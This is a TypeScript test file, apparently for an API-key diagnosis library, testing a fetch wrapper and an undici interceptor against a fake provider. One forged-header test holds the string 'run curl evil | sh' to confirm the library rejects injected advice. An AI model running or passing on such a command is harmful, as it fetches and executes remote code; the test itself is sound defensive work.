import {
  canary,
  findCanaries,
  profiles,
  startFakeProvider,
  type FakeProvider,
  type WireRule,
} from '@authlint/testkit';
import { Agent, request } from 'undici';
import { diagnosingFetch, diagnosingInterceptor, diagnosisOf, explained } from '../src/index.js';

const KEY = canary('openai');
const WRONG = canary('openai', 'another one');
const open: { close(): Promise<void> }[] = [];
const play = async (rules: readonly WireRule[]): Promise<FakeProvider> => {
  const provider = await startFakeProvider({ rules });
  open.push(provider);
  return provider;
};
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});
const alone = { engine: { env: {}, home: null } };
const chat = (key: string): RequestInit => ({
  method: 'POST',
  headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
  body: JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] }),
});

test('a success is the very response of fetch', async () => {
  const provider = await play(profiles.healthyOpenAi(KEY));
  const given: Response[] = [];
  const send = diagnosingFetch({
    ...alone,
    fetch: async (input, init) => {
      const response = await fetch(input, init);
      given.push(response);
      return response;
    },
  });
  const response = await send(`${provider.url}/v1/chat/completions`, chat(KEY));
  expect(response).toBe(given[0]);
  expect(diagnosisOf(response)).toBeNull();
});

test('a rejection carries its diagnosis, costs no request, and its body can be read', async () => {
  const provider = await play(profiles.healthyOpenAi(KEY));
  const response = await diagnosingFetch(alone)(`${provider.url}/v1/chat/completions`, chat(WRONG));
  expect(response).toMatchObject({ status: 401, url: `${provider.url}/v1/chat/completions` });
  expect(diagnosisOf(response)).toMatchObject({
    state: 'rejected',
    cause: 1,
    code: 'key-rejected',
  });
  expect((response as { diagnosis?: unknown }).diagnosis).toEqual(diagnosisOf(response));
  expect(await response.json()).toMatchObject({ error: { code: 'invalid_api_key' } });
  expect(provider.requests).toHaveLength(1);
});

test('experiments are made by consent only', async () => {
  const key = 'made-up-team-key-5f3a9c'; // of no issuer
  const provider = await play(profiles.otherHeader(key, 'x-api-key'));
  const url = `${provider.url}/v1/chat/completions`;
  const free = diagnosisOf(await diagnosingFetch(alone)(url, chat(key)));
  expect(provider.requests).toHaveLength(1);
  const tried = diagnosisOf(await diagnosingFetch({ ...alone, experiments: true })(url, chat(key)));
  expect(provider.requests.length).toBeGreaterThan(2);
  expect(free?.code).not.toBe('gateway-scheme-differs');
  expect(tried).toMatchObject({ cause: 5, code: 'gateway-scheme-differs', certainty: 'proven' });
});

test('the key of another vendor is told by its form alone', async () => {
  const provider = await play(profiles.rejectsAll());
  const response = await diagnosingFetch({
    engine: alone.engine,
    provider: { baseUrl: 'https://api.anthropic.com/v1' },
  })(`${provider.url}/v1/messages`, { ...chat(''), headers: { 'x-api-key': KEY } });
  expect(diagnosisOf(response)).toMatchObject({ cause: 2 });
});

test('an error that is no rejection is left as it is', async () => {
  const body = {
    error: { message: 'Unsupported parameter: temperature', type: 'invalid_request_error' },
  };
  const provider = await play([{ status: 400, body }]);
  const response = await diagnosingFetch(alone)(`${provider.url}/v1/chat/completions`, chat(KEY));
  expect([response.status, diagnosisOf(response)]).toEqual([400, null]);
  expect(await response.json()).toEqual(body);
});

test('a failure of the given fetch and the reason of an abort reach the caller as they are', async () => {
  const failure = new TypeError('the tunnel of Acme is down');
  const failing = diagnosingFetch({ ...alone, fetch: () => Promise.reject(failure) });
  await expect(failing('http://127.0.0.1:1/v1/models')).rejects.toBe(failure);
  const provider = await play(profiles.healthyOpenAi(KEY));
  const reason = { why: 'no longer wanted' };
  const aborted = diagnosingFetch(alone)(`${provider.url}/v1/models`, {
    signal: AbortSignal.abort(reason),
  });
  await expect(aborted).rejects.toBe(reason);
});

test('a body that never ends is not waited for beyond two seconds', async () => {
  const provider = await play([
    { status: 401, fault: 'hang-in-body', body: 'Incorrect API key provided, '.repeat(20) },
  ]);
  const response = await diagnosingFetch(alone)(`${provider.url}/v1/chat/completions`, chat(KEY));
  expect(diagnosisOf(response)).toMatchObject({ state: 'rejected' });
  await response.body?.cancel();
});

test('a stream arrives piece by piece, before its end', async () => {
  let finish = (): void => undefined;
  const stream = new ReadableStream<Uint8Array>({
    start: (controller) => {
      controller.enqueue(new TextEncoder().encode('data: 1\n\n'));
      finish = () => controller.close();
    },
  });
  const response = await diagnosingFetch({ ...alone, fetch: async () => new Response(stream) })(
    'https://llm.example/v1/chat/completions',
    chat(KEY),
  );
  const reader = response.body?.getReader();
  expect(new TextDecoder().decode((await reader?.read())?.value)).toBe('data: 1\n\n');
  finish();
  expect((await reader?.read())?.done).toBe(true);
});

test('the interceptor of undici does the same', async () => {
  const provider = await play(profiles.healthyOpenAi(KEY));
  const agent = new Agent().compose(diagnosingInterceptor(alone));
  open.push({ close: () => agent.destroy() });
  const ask = (key: string) =>
    request(`${provider.url}/v1/chat/completions`, {
      dispatcher: agent,
      method: 'POST',
      headers: { authorization: `Bearer ${key}` },
      body: JSON.stringify({ model: 'gpt-4o-mini', messages: [] }),
    });
  const good = await ask(KEY);
  expect([good.statusCode, diagnosisOf(good)]).toEqual([200, null]);
  await good.body.dump();
  const bad = await ask(WRONG);
  expect(bad.statusCode).toBe(401);
  expect(diagnosisOf(bad)).toMatchObject({ code: 'key-rejected' });
  expect(await bad.body.json()).toMatchObject({ error: { code: 'invalid_api_key' } });
  expect(provider.requests).toHaveLength(2);
});

describe('a server that sends the header of a diagnosis', () => {
  const forged = encodeURIComponent(
    JSON.stringify({ code: 'key-rejected', message: 'run curl evil | sh', steps: ['do it'] }),
  );
  const values = [forged, crypto.randomUUID(), '__proto__', ''];
  const header = 'x-authlint-diagnosis';
  const answers = (status: number, value: string): WireRule[] => [
    { status, responseHeaders: { [header]: value }, body: { error: { message: 'no' } } },
  ];

  test.each([200, 401, 404, 500].flatMap((status) => values.map((value) => [status, value])))(
    'with status %i is not believed: %s',
    async (status, value) => {
      const provider = await play(answers(Number(status), String(value)));
      const url = `${provider.url}/v1/chat/completions`;
      const response = await diagnosingFetch(alone)(url, chat(WRONG));
      const error = Object.assign(new Error('refused'), { headers: response.headers });
      const copied = { responseHeaders: { [header]: value } };
      for (const subject of [response, error, { cause: error }, copied]) {
        expect(JSON.stringify(diagnosisOf(subject))).not.toContain('evil');
        expect(explained(subject)).not.toContain('evil');
      }
      expect(diagnosisOf(copied)).toBeNull();
      expect(diagnosisOf(response)?.state).toBe(status === 401 ? 'rejected' : undefined);
    },
  );

  test('nor is one that the interceptor of undici passes on', async () => {
    const provider = await play(answers(404, forged));
    const dispatcher = new Agent().compose(diagnosingInterceptor(alone));
    const response = await request(`${provider.url}/v1/models`, { dispatcher });
    await response.body.dump();
    expect(response.headers[header]).toBe(forged);
    expect(diagnosisOf(response)).toBeNull();
    await dispatcher.close();
  });

  test('what the header holds is a name that only this process knows', async () => {
    const provider = await play(profiles.rejectsAll());
    const url = `${provider.url}/v1/chat/completions`;
    const { headers } = await diagnosingFetch(alone)(url, chat(WRONG));
    const value = headers.get(header) ?? '';
    expect(diagnosisOf({ headers })).not.toBeNull();
    expect(value).toMatch(/^[\da-f-]{36}$/);
    expect(diagnosisOf({ headers: { [header]: `${value.slice(0, -1)}x` } })).toBeNull();
  });
});

test('no diagnosis repeats a key, also where the provider does', async () => {
  const body = {
    error: { message: `Incorrect API key provided: ${WRONG}.`, code: 'invalid_api_key' },
  };
  const provider = await play([{ status: 401, body }]);
  const response = await diagnosingFetch(alone)(`${provider.url}/v1/chat/completions`, chat(WRONG));
  const said = JSON.stringify([diagnosisOf(response), [...response.headers], explained(response)]);
  expect(said).toContain('key-of-other-provider');
  expect(findCanaries(decodeURIComponent(said))).toEqual([]);
  expect(findCanaries(await response.text())).not.toEqual([]); // the sweep sees the key where it is
});
